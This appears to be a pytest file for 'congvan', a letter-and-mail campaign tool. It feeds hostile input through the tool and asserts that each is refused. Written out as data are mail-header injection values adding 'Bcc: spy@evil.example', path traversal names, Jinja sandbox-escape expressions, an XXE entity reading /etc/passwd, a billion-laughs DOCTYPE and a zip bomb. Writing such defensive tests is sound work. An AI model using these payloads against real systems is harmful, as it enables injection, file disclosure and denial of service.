"""Hostile and broken input, as a user would feed it to congvan (docs/bad-input.md has the table).

Each ``test_bad_*`` test is one row of docs/bad-input.md: what was tried, where, and what the user sees.
They go through the command line in a private copy of the project (``validate``, ``render``, ``dispatch``,
``escalate``, ``roster import``, ``responses import``, ``report``), in this process when no Prefect flow
runs (fast) and as a real process when one does, and assert what the user sees (exit code 2 and one
"Error: ..." line naming the file, row or field, never a traceback) and that nothing was sent, loaded or
written outside the output folder. Domain functions are called directly only where no command reaches
the code in question on its own (the mail catcher's file names, a template name no config can hold).
"""

from __future__ import annotations

import asyncio
import base64
import csv
import email
import email.message
import email.policy
import functools
import io
import json
import os
import re
import struct
import subprocess
import time
import tracemalloc
import zipfile
from collections.abc import Callable
from itertools import cycle
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import sqlalchemy as sa
import yaml
from prefect_api import SHARED_API_DATABASE, SHARED_API_LOG
from support import ROOT, Project, error_lines, self_signed_tls
from typer.testing import CliRunner

from congvan import roster
from congvan.cli import app
from congvan.config import load_campaign
from congvan.documents import dispatch_filename
from congvan.errors import SourceDataError, TemplateError
from congvan.letters import letter_filename
from congvan.mail_bodies import check_bodies, render_bodies
from congvan.mailcatcher import CatcherOptions, MailCatcher, store_message
from congvan.register import Allocation
from congvan.report import report_stem
from congvan.store import make_engine
from congvan.store.models import Delivery, Document, Import, Response, Staff
from congvan.text import one_line

CAMPAIGN = "par-index-2022"
CAMPAIGN_FILE = f"campaigns/{CAMPAIGN}.yaml"
SECRET = "Sup3r-S3cret-Pa55"
SMTP_USER = "vanthu"
DOCS = ROOT / "docs" / "bad-input.md"
# Every character that ends or folds a header line where it matters: CR/LF and the Unicode line breaks.
BREAKS = {"CRLF": "\r\nBcc: spy@evil.example", "LF": "\nBcc: spy@evil.example", "CR": "\rBcc: spy@evil.example",
          "LS": "\u2028Bcc: spy@evil.example", "PS": "\u2029Bcc: spy@evil.example",
          "NEL": "\x85Bcc: spy@evil.example"}


# --- running the command line ---------------------------------------------------------------------------


@pytest.fixture
def project(tmp_path: Path) -> Project:
    return Project(tmp_path)


def edit(project: Project, file: str, change: Callable[[Any], None]) -> None:
    """Change a YAML file, writing every character as an escape the YAML reader turns back into exactly
    it (``Project.edit`` writes U+0085 raw, and YAML reads a raw NEL as a space)."""
    path = project.config / file
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    change(data)
    path.write_text(yaml.safe_dump(data, allow_unicode=False, sort_keys=False, width=10_000), encoding="utf-8")


def cli(project: Project, monkeypatch: pytest.MonkeyPatch, *args: str,
        **env: str) -> subprocess.CompletedProcess[str]:
    """``congvan ARGS`` in this process, in the project copy with its environment: for commands that run no
    Prefect flow (a flow gets a real process, ``Project.run``). A traceback fails the test, as it would
    show on the user's terminal."""
    for key in [k for k in os.environ if k.startswith("CONGVAN_")]:
        monkeypatch.delenv(key)
    for key, value in {**{k: v for k, v in project.env.items() if k.startswith("CONGVAN_")}, **env}.items():
        monkeypatch.setenv(key, value)
    monkeypatch.chdir(project.root)
    result = CliRunner().invoke(app, list(args))
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exc_info
    return subprocess.CompletedProcess(list(args), result.exit_code, result.stdout, result.stderr)


def one_error(result: subprocess.CompletedProcess[str]) -> str:
    """The single "Error: ..." line of a refused command (exit 2, nothing on stdout, no traceback)."""
    assert result.returncode == 2, (result.stdout, result.stderr)
    assert result.stdout == ""
    (line,) = error_lines(result)
    return line


def files_under(root: Path) -> set[Path]:
    return {p for p in root.rglob("*") if p.is_file()}


def new_files(tmp_path: Path, before: set[Path]) -> set[Path]:
    return files_under(tmp_path) - before


def rows_in(project: Project, *tables: type[Any], url: str | None = None) -> int:
    """How many rows the tables hold in the project's database (default: its SQLite file; 0 if never created)."""
    db = project.out / "congvan.db"
    if url is None and not db.exists():
        return 0
    engine = make_engine(url or f"sqlite:///{db}")
    try:
        with engine.connect() as conn:
            names = set(sa.inspect(conn).get_table_names())
            return sum(int(conn.scalar(sa.select(sa.func.count()).select_from(t)) or 0)
                       for t in tables if t.__table__.name in names)
    finally:
        engine.dispose()


# --- mail headers: CR/LF and every other line break, in every config field that reaches a header ----------


def _unit(code: str, *keys: str) -> Callable[[Any, str], None]:
    def change(data: Any, value: str) -> None:
        target = next(u for u in data["units"] if u["code"] == code)
        for key in keys[:-1]:
            target = target[key]
        target[keys[-1]] = value
    return change


def _campaign(*path: str | int) -> Callable[[Any, str], None]:
    def change(data: Any, value: str) -> None:
        target = data
        for key in path[:-1]:
            target = target[key]
        target[path[-1]] = value
    return change


def _named_kinh_gui(data: Any, value: str) -> None:
    data["kinh_gui"].append({"name": value, "email": "vanthu.bnv@daklak.example"})


def _authority(key: str) -> Callable[[Any, str], None]:
    def change(data: Any, value: str) -> None:
        data["authorities"]["ubnd-daklak"][key] = value
    return change


# field -> (file, how to set it, the field as the error names it)
HEADER_FIELDS: dict[str, tuple[str, Callable[[Any, str], None], str]] = {
    "authority name (From)": ("authorities.yaml", _authority("name"), "authorities.ubnd-daklak.name"),
    "unit name (To)": ("units.yaml", _unit("STP", "name"), "units[3].name"),
    "head name (To of a letter)": ("units.yaml", _unit("KPAC", "head", "name"), ".head.name"),
    "head title": ("units.yaml", _unit("EAHLEO", "head", "title"), ".head.title"),
    "campaign summary (Subject)": (CAMPAIGN_FILE, _campaign("summary", 1), "summary[1]"),
    "ladder step summary (Subject)": (CAMPAIGN_FILE, _campaign("follow_up", "ladder", 1, "summary", 0),
                                      "follow_up.ladder[1].summary[0]"),
    "copies name": (CAMPAIGN_FILE, _campaign("copies", 0, "name"), "copies[0].name"),
    "named Kính gửi body": (CAMPAIGN_FILE, _named_kinh_gui, "kinh_gui[3].name"),
    "leadership name": (CAMPAIGN_FILE, _campaign("follow_up", "leadership", 1, "name"),
                        "follow_up.leadership[1].name"),
    "ladder cc name (NamedAddress)": (CAMPAIGN_FILE, _campaign("follow_up", "ladder", 2, "cc", 2, "name"),
                                      "follow_up.ladder[2].cc[2].name"),
}
# Each field gets one kind of break, and every kind is used (tests/test_config.py crosses more of them).
HEADER_CASES = [(field, brk) for field, brk in zip(HEADER_FIELDS, cycle(BREAKS), strict=False)]


@pytest.mark.parametrize(("field", "brk"), HEADER_CASES, ids=[f"{f}-{b}" for f, b in HEADER_CASES])
def test_bad_line_break_in_a_header_field(project: Project, monkeypatch: pytest.MonkeyPatch, tmp_path: Path,
                                          field: str, brk: str) -> None:
    file, change, shown = HEADER_FIELDS[field]
    edit(project, file, lambda d: change(d, "Sở Nội vụ" + BREAKS[brk]))
    before = files_under(tmp_path)
    line = one_error(cli(project, monkeypatch, "validate", CAMPAIGN))
    assert f"{file}: " in line and shown in line, line
    assert "contains a line break (U+" in line and "it would end up in a mail header" in line
    assert new_files(tmp_path, before) == set()


def test_bad_line_break_in_a_header_field_stops_dispatch_before_anything_is_sent(
        project: Project, tmp_path: Path, prefect_api: str) -> None:
    edit(project, "authorities.yaml", lambda d: _authority("name")(d, "Ủy ban nhân dân\u2028Bcc: spy@evil.example"))
    with MailCatcher(tmp_path / "mailbox") as catcher:
        result = project.run("dispatch", CAMPAIGN, "--as-of", "2023-02-10", CONGVAN_SMTP_PORT=str(catcher.port),
                             PREFECT_API_URL=prefect_api, PREFECT_HOME=str(tmp_path / "prefect-home"))
        assert catcher.stored() == []
    line = one_error(result)
    assert "authorities.yaml: authorities.ubnd-daklak.name: contains a line break (U+2028 LINE SEPARATOR" in line
    assert rows_in(project, Document, Delivery) == 0


ADDRESS_FIELDS: dict[str, tuple[str, Callable[[Any, str], None], str]] = {
    "unit email": ("units.yaml", _unit("STP", "email"), "units[3].email"),
    "head email": ("units.yaml", _unit("KPAC", "head", "email"), ".head.email"),
    "authority email (From)": ("authorities.yaml", _authority("email"), "authorities.ubnd-daklak.email"),
    "copies email": (CAMPAIGN_FILE, _campaign("copies", 1, "email"), "copies[1].email"),
    "leadership email": (CAMPAIGN_FILE, _campaign("follow_up", "leadership", 0, "email"),
                         "follow_up.leadership[0].email"),
    "ladder cc email": (CAMPAIGN_FILE, _campaign("follow_up", "ladder", 2, "cc", 1, "email"),
                        "follow_up.ladder[2].cc[1].email"),
}
ADDRESSES = {
    "header after LF": ("a@x.example\nBcc: b@y.example", "line break"),
    "header after CRLF": ("a@x.example\r\nBcc: b@y.example", "line break"),
    "two addresses": ("a@x.example, b@y.example", "not a valid mail address"),
    "two addresses with ;": ("a@x.example;b@y.example", "not a valid mail address"),
    "display name": ("Spy <a@x.example>", "not a valid mail address"),
    "header after U+2028": ("a@x.example\u2028Bcc: b@y.example", "line break"),
}
ADDRESS_CASES = list(zip(ADDRESS_FIELDS, ADDRESSES, strict=True))


@pytest.mark.parametrize(("field", "value"), ADDRESS_CASES, ids=[f"{f}-{v}" for f, v in ADDRESS_CASES])
def test_bad_address_smuggles_another_recipient(project: Project, monkeypatch: pytest.MonkeyPatch, tmp_path: Path,
                                                field: str, value: str) -> None:
    file, change, shown = ADDRESS_FIELDS[field]
    address, reason = ADDRESSES[value]
    edit(project, file, lambda d: change(d, address))
    before = files_under(tmp_path)
    line = one_error(cli(project, monkeypatch, "validate", CAMPAIGN))
    assert f"{file}: " in line and shown in line and reason in line, line
    assert new_files(tmp_path, before) == set()


def test_bad_control_characters_are_dropped_not_sent(project: Project, monkeypatch: pytest.MonkeyPatch) -> None:
    """VT, FF and FS/GS/RS end a line for str.splitlines() but XML cannot hold them: they are removed on
    loading (text.clean), so what reaches a header has no break left and the campaign is valid."""
    edit(project, "units.yaml", lambda d: _unit("STP", "name")(d, "Sở\x0b\x0c\x1c\x1d\x1e Tư pháp"))
    result = cli(project, monkeypatch, "validate", CAMPAIGN)
    assert result.returncode == 0, result.stderr
    unit = next(u for u in load_campaign(project.config, CAMPAIGN).units if u.code == "STP")
    assert unit.name == "Sở Tư pháp"


# --- file names: nothing a config or a command line says can write outside the output folder ---------------


CODE_FIELDS: dict[str, tuple[str, Callable[[Any, str], None], str]] = {
    "unit code": ("units.yaml", _unit("STP", "code"), "units[3].code"),
    "ladder step name": (CAMPAIGN_FILE, _campaign("follow_up", "ladder", 1, "name"), "follow_up.ladder[1].name"),
    "authority abbreviation": ("authorities.yaml", _authority("abbreviation"),
                               "authorities.ubnd-daklak.abbreviation"),
    "drafting unit": ("authorities.yaml", _authority("drafting_unit"), "authorities.ubnd-daklak.drafting_unit"),
}
CODES = ["../../etc", "..", "a/b", ".hidden", "a\\b", "con.docx", "x" * 33]
CODE_CASES = [(field, code) for field, code in zip(cycle(CODE_FIELDS), CODES, strict=False)]


@pytest.mark.parametrize(("field", "code"), CODE_CASES, ids=[f"{f}-{c[:12]}" for f, c in CODE_CASES])
def test_bad_code_that_would_reach_a_file_name(project: Project, monkeypatch: pytest.MonkeyPatch, tmp_path: Path,
                                               field: str, code: str) -> None:
    """Unit codes, step names and the symbol's parts are the only config values in file names
    (``letter_filename``, ``dispatch_filename``, ``report_stem``); each is a code: letters, digits, '-', '_'."""
    file, change, shown = CODE_FIELDS[field]
    edit(project, file, lambda d: change(d, code))
    before = files_under(tmp_path)
    line = one_error(cli(project, monkeypatch, "validate", CAMPAIGN))
    assert shown in line and "is not a valid code (letters, digits, '-' or '_', at most 32)" in line, line
    assert new_files(tmp_path, before) == set()


RESERVED = ("CON", "NUL", "aux", "COM1", "LPT1")


def test_bad_reserved_device_name_as_a_unit_code(project: Project, monkeypatch: pytest.MonkeyPatch) -> None:
    """Windows device names are valid codes; a code is only ever a fragment of a file name, so no file is
    called CON, and every name the letters, the dispatch and the report get stays in its folder."""
    codes = iter(RESERVED)
    edit(project, "units.yaml", lambda d: [u.update(code=next(codes)) for u in d["units"][4:9]])
    (project.config / "rosters" / "small.csv").write_text(
        "staff_id,name,position,unit\n" + "".join(f"{c}-1,Tên {c},CV,{c}\n" for c in RESERVED), encoding="utf-8")
    edit(project, CAMPAIGN_FILE, lambda c: c["follow_up"].update(roster="rosters/small.csv"))
    assert cli(project, monkeypatch, "validate", CAMPAIGN).returncode == 0
    lc = load_campaign(project.config, CAMPAIGN)
    assert lc.campaign.follow_up is not None
    allocation = Allocation(number=7, year=2023, register="ubnd-daklak", symbol=lc.symbol,
                            issued_on=lc.campaign.follow_up.deadline, key="k", document_id=1, created=True)
    names = [dispatch_filename(lc, None), dispatch_filename(lc, allocation)]
    names += [letter_filename(lc, step, unit.code, alloc) for step in lc.campaign.follow_up.ladder
              for unit in lc.units for alloc in (None, allocation)]
    from congvan.compliance import Compliance

    compliance = Compliance(CAMPAIGN, allocation.issued_on, ())
    names += [report_stem(lc, compliance, None) + ".xlsx", report_stem(lc, compliance, allocation) + ".docx"]
    out = project.out.resolve()
    for name in names:
        assert (out / name).resolve().parent == out, name
        assert not name.startswith(".") and name.split(".")[0].upper() not in {r.upper() for r in RESERVED}, name
    assert any("_CON_" in n for n in names) and any("_aux_" in n for n in names)


def test_bad_path_in_a_name_never_reaches_a_file_name(project: Project, monkeypatch: pytest.MonkeyPatch,
                                                      tmp_path: Path) -> None:
    """Names are text: a unit named "../../../x" is printed as written and never used for a path."""
    edit(project, "units.yaml", lambda d: (_unit("VPDDBQH", "name")(d, "../../../escaped"),
                                           _unit("KPAC", "head", "title")(d, "a/b/../../c")))
    edit(project, "authorities.yaml", lambda d: _authority("name")(d, "..\\..\\escaped"))
    before = files_under(tmp_path)
    result = cli(project, monkeypatch, "render", CAMPAIGN, "--draft")
    assert result.returncode == 0, result.stderr
    written = Path(result.stdout.strip())
    assert new_files(tmp_path, before) == {written}
    assert written.resolve() == (project.out / "documents" / f"{CAMPAIGN}_du-thao.docx").resolve()
    with zipfile.ZipFile(written) as z:
        assert "../../../escaped" in z.read("word/document.xml").decode("utf-8")


CAMPAIGN_NAMES = ["../x", "..", "a/b", "/etc/passwd", ".hidden", "..\\x", f"{CAMPAIGN}\n", "x\u2028y"]
COMMANDS = [("validate",), ("render",), ("dispatch",), ("roster", "import"), ("responses", "import"),
            ("escalate",), ("status",), ("report",)]
NAME_CASES = [(cmd, name) for cmd, name in zip(COMMANDS, cycle(CAMPAIGN_NAMES), strict=False)]


@pytest.mark.parametrize(("command", "name"), NAME_CASES, ids=[f"{' '.join(c)}-{n}" for c, n in NAME_CASES])
def test_bad_campaign_name_on_the_command_line(project: Project, monkeypatch: pytest.MonkeyPatch, tmp_path: Path,
                                               command: tuple[str, ...], name: str) -> None:
    extra = [str(tmp_path / "export.csv")] if command == ("responses", "import") else []
    before = files_under(tmp_path)
    line = one_error(cli(project, monkeypatch, *command, name, *extra))
    assert line == f"Error: {one_line(name)}: not a campaign name (a file stem under config/campaigns/)"
    assert new_files(tmp_path, before) == set()


def test_bad_line_break_in_a_yaml_key(project: Project, monkeypatch: pytest.MonkeyPatch) -> None:
    """Keys are names too: one with a line break is shown escaped, so each problem stays one line."""
    edit(project, CAMPAIGN_FILE, lambda c: c.update(fields={"han\nchot": "x"}, authority="khong-co"))
    edit(project, "authorities.yaml", lambda d: d["authorities"].update({"so\u2028nv": d["authorities"]["snv-daklak"]}))
    edit(project, "units.yaml", lambda d: d["groups"].update({"trong\rrong": {"label": "Nhóm trống"}}))
    result = cli(project, monkeypatch, "validate", CAMPAIGN)
    assert result.returncode == 2
    lines = error_lines(result)
    assert re.search(r"\(line \d+, column 12\)$", lines[1])  # where the authority is in the file
    assert [re.sub(r" \(line \d+, column \d+\)$", "", line) for line in lines] == [
        "Error: config/units.yaml: groups.'trong\\rrong': no unit belongs to this group",
        f"Error: config/{CAMPAIGN_FILE}: authority: unknown authority 'khong-co' (known: snv-daklak, "
        "'so\\u2028nv', ubnd-daklak)",
        f"Error: config/{CAMPAIGN_FILE}: fields.'han\\nchot': field names are lowercase ASCII letters, digits and '_'"]


TEMPLATE_NAMES = {
    "mail step": (_campaign("follow_up", "ladder", 0, "template"), "../../../etc/passwd",
                  "follow_up.ladder[0].template: '../../../etc/passwd' must be a file name inside the templates "
                  "folder"),
    "letter step": (_campaign("follow_up", "ladder", 1, "template"), "../cong_van_don_doc.docx",
                    "follow_up.ladder[1].template: '../cong_van_don_doc.docx' must be a file name inside"),
    "hidden file": (_campaign("follow_up", "ladder", 2, "template"), ".cong_van.docx",
                    "follow_up.ladder[2].template: '.cong_van.docx' must be a file name inside"),
    "dispatch": (_campaign("template"), "../templates/cong_van.docx",
                 "template: '../templates/cong_van.docx' must be a .docx file name inside the templates folder"),
}


@pytest.mark.parametrize("where", TEMPLATE_NAMES)
def test_bad_template_name_is_a_path(project: Project, monkeypatch: pytest.MonkeyPatch, where: str) -> None:
    change, value, expected = TEMPLATE_NAMES[where]
    edit(project, CAMPAIGN_FILE, lambda d: change(d, value))
    line = one_error(cli(project, monkeypatch, "validate", CAMPAIGN))
    assert f"{CAMPAIGN}.yaml: {expected}" in line, line


def test_bad_mail_template_name_is_a_path(tmp_path: Path) -> None:
    """No config can name one any more (the row above), but the function refuses it on its own too."""
    templates = ROOT / "templates"
    for name in ("../../../etc/passwd", "..", ".hidden", "a/b", "nhac_nho\n"):
        with pytest.raises(TemplateError) as info:
            render_bodies(templates, name, MAIL_CONTEXT)
        assert str(info.value) == (f"{one_line(name)}: not a mail template name (a file stem in the mail "
                                   "templates folder)")


def test_bad_message_id_as_a_mailbox_file_name(tmp_path: Path) -> None:
    """The mail catcher names each .eml after a fragment of the Message-ID: never a path."""
    mailbox = tmp_path / "mailbox"
    mailbox.mkdir()
    for message_id in ("<../../../escaped@x.example>", "<..@x.example>", "</etc/passwd@x.example>",
                       "<a\\..\\..\\b@x.example>", "<.hidden@x.example>"):
        raw = f"Message-ID: {message_id}\r\nSubject: x\r\n\r\nbody\r\n".encode()
        path = store_message(mailbox, raw, mail_from="a@x.example", rcpt_tos=["b@x.example"])
        assert path.parent == mailbox and not path.name.startswith(".")
    assert files_under(tmp_path) == files_under(mailbox)


def test_bad_labels_as_a_mailbox_file_name(tmp_path: Path) -> None:
    """The mail catcher names each .eml after the X-Congvan-* headers: sender's text, slugged, never a path."""
    mailbox = tmp_path / "mailbox"
    mailbox.mkdir()
    names = []
    for unit, kind, number in (("../..", "../../etc", "/etc/passwd"), (".hidden", "..", "a\\..\\b"),
                               ("Sở Tài nguyên & Môi trường", "don-doc", "05/UBND-KSTTHC"),
                               ("Ea H'leo", "nhắc nhở", ""), ("Ea H'leo", "nhắc nhở", "")):
        raw = (f"X-Congvan-Unit: {unit}\r\nX-Congvan-Kind: {kind}\r\nX-Congvan-Number: {number}\r\n"
               f"X-Congvan-Date: 2023-02-24\r\nSubject: x\r\n\r\nbody\r\n").encode()
        path = store_message(mailbox, raw, mail_from="a@x.example", rcpt_tos=["b@x.example"])
        assert path.parent == mailbox and not path.name.startswith(".") and path.read_bytes() == raw
        names.append(path.name)
    assert names == ["2023-02-24_b_etc_etc-passwd.eml", "2023-02-24_hidden_thu_a-b.eml",
                     "2023-02-24_So-Tai-nguyen-Moi-truong_don-doc_05-UBND-KSTTHC.eml",
                     "2023-02-24_Ea-H-leo_nhac-nho.eml", "2023-02-24_Ea-H-leo_nhac-nho_2.eml"]
    assert files_under(tmp_path) == files_under(mailbox)


# --- templates that reach for Python's internals ---------------------------------------------------------


INTERNALS = {
    "mro": "{{ ''.__class__.__mro__ }}",
    "globals": "{{ cycler.__init__.__globals__ }}",
    "subclasses": "{{ co_quan.__class__.__base__.__subclasses__() }}",
    "private": "{{ self._TemplateReference__context }}",
}


def _docx_with(project: Project, expression: str) -> Path:
    """templates/cong_van.docx with ``expression`` after "Nơi nhận:"."""
    path = project.root / "templates" / "cong_van.docx"
    data = io.BytesIO()
    with zipfile.ZipFile(path) as zin, zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            content = zin.read(info)
            if info.filename == "word/document.xml":
                text = content.decode("utf-8")
                assert text.count("Nơi nhận:") == 1
                content = text.replace("Nơi nhận:", f"Nơi nhận: {expression}").encode("utf-8")
            zout.writestr(info, content)
    path.write_bytes(data.getvalue())
    return path


@pytest.mark.parametrize("expression", INTERNALS.values(), ids=INTERNALS)
def test_bad_docx_template_reaches_python_internals(project: Project, monkeypatch: pytest.MonkeyPatch,
                                                    tmp_path: Path, expression: str) -> None:
    _docx_with(project, expression)
    before = files_under(tmp_path)
    line = one_error(cli(project, monkeypatch, "render", CAMPAIGN, "--draft"))
    # Found when the campaign is validated (a render in memory), before any file is written.
    assert line.startswith("Error: config/campaigns/par-index-2022.yaml: template: templates/cong_van.docx: "
                           "word/document.xml: not allowed in a template: access to attribute")
    assert "is unsafe" in line
    assert new_files(tmp_path, before) == set()  # no half-rendered letter left behind


def test_bad_docx_template_reaches_python_internals_and_dispatch_sends_nothing(
        project: Project, tmp_path: Path, prefect_api: str) -> None:
    _docx_with(project, INTERNALS["mro"])
    edit(project, CAMPAIGN_FILE, lambda c: c.update(pdf=False, attach=["docx"]))
    with MailCatcher(tmp_path / "mailbox") as catcher:
        result = project.run("dispatch", CAMPAIGN, "--as-of", "2023-02-10", CONGVAN_SMTP_PORT=str(catcher.port),
                             PREFECT_API_URL=prefect_api, PREFECT_HOME=str(tmp_path / "prefect-home"))
        assert catcher.stored() == []
    line = one_error(result)
    assert "cong_van.docx: word/document.xml: not allowed in a template: access to attribute '__class__'" in line
    assert rows_in(project, Document, Delivery) == 0  # checked as a draft: no number taken


# Every value the mail templates (dispatch, nhac_nho) use.
MAIL_CONTEXT: dict[str, Any] = {
    "recipient": "Sở Nội vụ", "authority": "Ủy ban nhân dân tỉnh Đắk Lắk", "so_ky_hieu": "01/UBND-KSTTHC",
    "ngay": "10/02/2023", "subject": "V/v tham gia", "attachments": ["a.pdf", "a.docx"], "sender_email": "a@x.example",
    "cv_goc": "01/UBND-KSTTHC", "ngay_cv_goc": "10/02/2023", "trich_yeu_goc": "tham gia", "han": "24/02/2023",
    "ngay_so_lieu": "21/02/2023", "so_chua": 1, "so_phai": 2, "danh_sach": [{"ten": "Võ Văn Em", "chuc_vu": "CV"}]}
MAIL_INTERNALS = {
    **{k: v.replace("co_quan", "recipient") for k, v in INTERNALS.items()},
    "item": "{{ recipient['__class__'] }}",
    "attr filter": "{{ recipient|attr('__class__') }}",
    "branch never taken": "{% if false %}{{ recipient.__class__ }}{% endif %}",
}


@pytest.mark.parametrize("body", ["dispatch.txt", "nhac_nho.html"])
@pytest.mark.parametrize("expression", MAIL_INTERNALS.values(), ids=MAIL_INTERNALS)
def test_bad_mail_template_reaches_python_internals(project: Project, body: str, expression: str) -> None:
    templates = project.root / "templates"
    path = templates / "mail" / body
    path.write_text(path.read_text(encoding="utf-8") + expression + "\n", encoding="utf-8")
    name = body.partition(".")[0]
    with pytest.raises(TemplateError) as info:
        render_bodies(templates, name, MAIL_CONTEXT)
    message = str(info.value)
    assert message.startswith(f"{path.resolve()}: not allowed in a mail template: ")
    assert re.search(r"'_\w+'", message), message
    with pytest.raises(TemplateError, match="not allowed in a mail template"):
        check_bodies(templates, name)  # refused on loading, before anything is rendered


def test_bad_mail_template_reaches_python_internals_and_dispatch_sends_nothing(
        project: Project, tmp_path: Path, prefect_api: str) -> None:
    path = project.root / "templates" / "mail" / "dispatch.txt"
    path.write_text("{{ ''.__class__.__mro__ }}\n" + path.read_text(encoding="utf-8"), encoding="utf-8")
    edit(project, CAMPAIGN_FILE, lambda c: c.update(pdf=False, attach=["docx"]))
    with MailCatcher(tmp_path / "mailbox") as catcher:
        result = project.run("dispatch", CAMPAIGN, "--as-of", "2023-02-10", CONGVAN_SMTP_PORT=str(catcher.port),
                             PREFECT_API_URL=prefect_api, PREFECT_HOME=str(tmp_path / "prefect-home"))
        assert catcher.stored() == []
    line = one_error(result)
    # Found when the campaign is validated, before a number is taken or a delivery planned.
    assert line == (f"Error: config/campaigns/par-index-2022.yaml: mail_templates.dispatch: {path.resolve()}: not "
                    "allowed in a mail template: line 1 reaches into Python's internals ('__class__', '__mro__')")
    assert _statuses(project) == []  # nothing planned either


def _statuses(project: Project) -> list[str]:
    """The status of every delivery in the ledger."""
    engine = make_engine(f"sqlite:///{project.out / 'congvan.db'}")
    try:
        with engine.connect() as conn:
            if not sa.inspect(conn).has_table("deliveries"):
                return []  # refused before the database was even set up
            return [str(s) for s in conn.scalars(sa.select(Delivery.__table__.c.status))]
    finally:
        engine.dispose()


MAIL_EXPRESSIONS = {
    "division by zero": ("{{ 1 / 0 }}", "ZeroDivisionError"),
    "range past the sandbox's limit": ("{{ range(10 ** 9)|list|length }}", "OverflowError"),
    "format with missing values": ("{{ '%s %s' % recipient }}", "TypeError"),
}


@pytest.mark.parametrize("case", MAIL_EXPRESSIONS)
def test_bad_mail_template_expression_fails(project: Project, case: str) -> None:
    expression, kind = MAIL_EXPRESSIONS[case]
    templates = project.root / "templates"
    path = templates / "mail" / "dispatch.html"
    path.write_text(path.read_text(encoding="utf-8") + expression, encoding="utf-8")
    with pytest.raises(TemplateError) as info:
        render_bodies(templates, "dispatch", MAIL_CONTEXT)
    assert str(info.value).startswith(f"{path.resolve()}: the mail template failed: {kind}: ")


def test_bad_template_syntax_in_a_config_value_stays_text(project: Project, monkeypatch: pytest.MonkeyPatch) -> None:
    """A value is never a template: "{{ 7*7 }}" in a unit's name is printed as written."""
    edit(project, "units.yaml", lambda d: _unit("VPDDBQH", "name")(d, "{{ 7*7 }} {% raw %} {{ ''.__class__ }}"))
    result = cli(project, monkeypatch, "render", CAMPAIGN, "--draft")
    assert result.returncode == 0, result.stderr
    with zipfile.ZipFile(result.stdout.strip()) as z:
        xml = z.read("word/document.xml").decode("utf-8")
    assert "{{ 7*7 }} {% raw %} {{ ''.__class__ }}" in xml.replace("&#39;", "'") and "49" not in xml
    text, html = render_bodies(project.root / "templates", "nhac_nho",
                               {**MAIL_CONTEXT, "recipient": "{{ 7*7 }}", "authority": "{% raw %}"})
    assert "{{ 7*7 }}" in text and "{% raw %}" in html


# --- rosters and survey exports: bombs, huge files, binary junk ----------------------------------------------

NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PARTS = {
    "[Content_Types].xml": (
        '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/'
        'workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        'spreadsheetml.worksheet+xml"/><Override PartName="/xl/sharedStrings.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>'),
    "_rels/.rels": (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        f'relationships"><Relationship Id="rId1" Type="{REL}/officeDocument" Target="xl/workbook.xml"/>'
        '</Relationships>'),
    "xl/workbook.xml": (
        f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{NS}" xmlns:r="{REL}"><sheets>'
        '<sheet name="Danh sách" sheetId="1" r:id="rId1"/></sheets></workbook>'),
    "xl/_rels/workbook.xml.rels": (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        f'relationships"><Relationship Id="rId1" Type="{REL}/worksheet" Target="worksheets/sheet1.xml"/>'
        f'<Relationship Id="rId2" Type="{REL}/sharedStrings" Target="sharedStrings.xml"/></Relationships>'),
}
EMPTY_STRINGS = f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{NS}" count="0" uniqueCount="0"/>'
HEADER_ROW = ('<row r="1">' + "".join(f'<c r="{c}1" t="inlineStr"><is><t>{t}</t></is></c>'
                                      for c, t in zip("ABCD", ("staff_id", "name", "position", "unit"), strict=True))
              + "</row>")
# "Billion laughs": ten entities, each ten of the one before: &lol9; is 10^9 "lol"s.
LAUGHS = ('<!DOCTYPE lolz [<!ENTITY lol "lol">'
          + "".join(f'<!ENTITY lol{i} "{("&lol;" if i == 1 else f"&lol{i - 1};") * 10}">' for i in range(1, 10))
          + "]>")
EXTERNAL = '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


def sheet_xml(rows: str, doctype: str = "") -> str:
    return (f'<?xml version="1.0" encoding="UTF-8"?>{doctype}<worksheet xmlns="{NS}"><sheetData>{rows}</sheetData>'
            "</worksheet>")


def write_xlsx(path: Path, sheet: str, strings: str = EMPTY_STRINGS) -> Path:
    """A minimal workbook written part by part, so each part can be as hostile as a test needs."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, text in PARTS.items():
            z.writestr(name, text)
        z.writestr("xl/worksheets/sheet1.xml", sheet)
        z.writestr("xl/sharedStrings.xml", strings)
    return path


BOMB_MB = 410  # past xlsx_reader.MAX_UNPACKED_BYTES (400 MB)


@pytest.fixture(scope="module")
def zip_bomb(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An .xlsx of about 2 MB whose sheet XML inflates to 410 MB (spaces between the rows)."""
    path = tmp_path_factory.mktemp("bomb") / "bomb.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as z:
        for name, text in PARTS.items():
            z.writestr(name, text)
        z.writestr("xl/sharedStrings.xml", EMPTY_STRINGS)
        head, _, tail = sheet_xml(HEADER_ROW + "\x00").partition("\x00")
        with z.open("xl/worksheets/sheet1.xml", "w") as sheet:
            sheet.write(head.encode())
            chunk = b" " * 2**20
            for _ in range(BOMB_MB):
                sheet.write(chunk)
            sheet.write(tail.encode())
    assert path.stat().st_size < 5 * 2**20
    return path


